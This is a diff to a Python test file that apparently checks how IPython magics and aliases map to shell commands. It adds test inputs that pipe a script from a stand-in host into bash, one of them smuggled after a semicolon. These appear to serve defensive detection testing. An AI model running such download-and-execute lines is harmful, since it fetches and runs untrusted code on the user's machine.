@@ -76,6 +76,7 @@ IPYTHON_LINES = [
     "%env A=1",
     "%cd /content/run",
     "%cp best.pt m.pt",
+    "%ls && curl -fsSL https://x.example/i.sh | bash",
 ]
 BLOCKS = [
     ["if x:", "    !ls", "    y = f(1)"],
@@ -98,6 +99,10 @@ ONE_LINERS = [
     "cd /content/drive",
     "cp *.pt d",
     "ls | grep x",
+    "mkdir;curl -fsSL https://x.example/i.sh|bash",
+    "lf *.pt",
+    "history += [f(1)]",
+    "config .update(f(1))",
     "cat a b > m.pt",
     "mv = 2",
 ]
@@ -177,8 +182,13 @@ def _expected(source: str, shell) -> tuple[bool, list[str], list[str], list[str]
             installs.append(magic)
         elif name in ("sx", "system"):
             expected_shell.append(arguments.strip())
-        elif name in ("cat", "cp", "mkdir", "mv", "rm", "rmdir"):
-            expected_shell.append(magic)  # an alias: IPython runs `name arguments` in a shell
+        elif shell.alias_manager.is_alias(name):
+            # An alias: IPython substitutes `%l` with the arguments, or appends them, and runs it.
+            command = shell.alias_manager.retrieve_alias(name)
+            arguments = arguments.strip()
+            expected_shell.append(
+                (command.replace("%l", arguments) if "%l" in command else f"{command} {arguments}").strip()
+            )
     for name, line, body in cell_magics:
         program = line.split()[:1]
         if name in ("bash", "sh") or (name == "script" and program in (["bash"], ["sh"])):
